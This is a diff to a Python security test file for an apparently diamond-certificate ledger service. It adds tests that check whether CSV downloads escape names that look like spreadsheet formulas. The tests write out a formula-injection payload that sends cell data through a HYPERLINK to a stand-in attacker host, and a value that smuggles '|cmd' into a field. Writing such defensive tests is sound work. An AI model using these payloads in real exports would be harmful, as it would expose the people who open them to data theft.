@@ -3,24 +3,28 @@ country, a party to the wrong record. Each test is the exploit; it failed before
 
 from __future__ import annotations
 
+import csv
 import hashlib
+import io
 import os
 import socket
 import stat
 import subprocess
 import sys
 import time
+from datetime import UTC, datetime
 
 import httpx
 import pytest
 from test_certificates import qr_texts
 
+from kpledger.api.routes.statistics import cell
 from kpledger.auth import sign_request
 from kpledger.core.config import Settings
 from kpledger.devstack import dev_key
 
-from conftest import Direct, Server, signed, start_server
-from scenarios import ThreeCountries
+from conftest import ROLE_PRODUCER, Direct, Server, signed, start_server
+from scenarios import UNSORTED, ThreeCountries, sha
 from test_reads import wait_indexed
 
 EVIL = "kp-verify.evil.example"  # a host the attacker controls
@@ -267,3 +271,33 @@ def test_outside_production_the_urls_default_to_the_listen_address(tmp_path):
                         public_base_url="https://kp.example/")
     assert (wildcard.public_base_url, wildcard.id_base_url) == ("https://kp.example", "http://127.0.0.1:9000")
     assert Settings(host="::1", port=80, data_dir=tmp_path).public_base_url == "http://[::1]:80"
+
+
+# ---------------------------------------------------------------- what a browser is told
+
+
+def test_a_name_cannot_become_a_formula_in_a_csv_download(server, direct):
+    """Governance admits a participant whose name is a spreadsheet formula: in the summary CSV the cell must be
+    text (OWASP: a leading quote), and the figures stay numbers."""
+    formula = '=HYPERLINK("http://kp-verify.evil.example/?leak="&A1,"Botswana")'
+    direct.send("governance", direct.registry, "admitParticipant", "BW", formula)
+    direct.send("governance", direct.registry, "appointAuthority", "BW", direct.actors["bw_authority"].address,
+                "-1+1|cmd")
+    direct.license("bw_authority", "mine", ROLE_PRODUCER)
+    direct.send("mine", direct.ledger, "registerParcel", 150, 1, UNSORTED, "BW", sha("formula"))
+    wait_indexed(server, direct)
+    year = datetime.now(UTC).year
+    with server.client() as c:
+        answer = c.get("/v1/statistics/summary", params={"year": year, "format": "csv"})
+    rows = list(csv.DictReader(io.StringIO(answer.text)))
+    assert rows and {r["name"] for r in rows} == {"'" + formula}, answer.text
+    produced = [(r["carats"], r["certificates_or_parcels"]) for r in rows
+                if (r["measure"], r["period"]) == ("production", str(year))]
+    assert produced == [("1.50", "1")], answer.text
+
+
+@pytest.mark.parametrize("value,written", [
+    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1+1|cmd", "'-1+1|cmd"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
+    ("\r=1", "'\r=1"), ("Botswana", "Botswana"), ("-12.50", "-12.50"), (-3, -3), (1.5, 1.5), ("", "")])
+def test_csv_cells_that_start_like_a_formula_are_text(value, written):
+    assert cell(value) == written
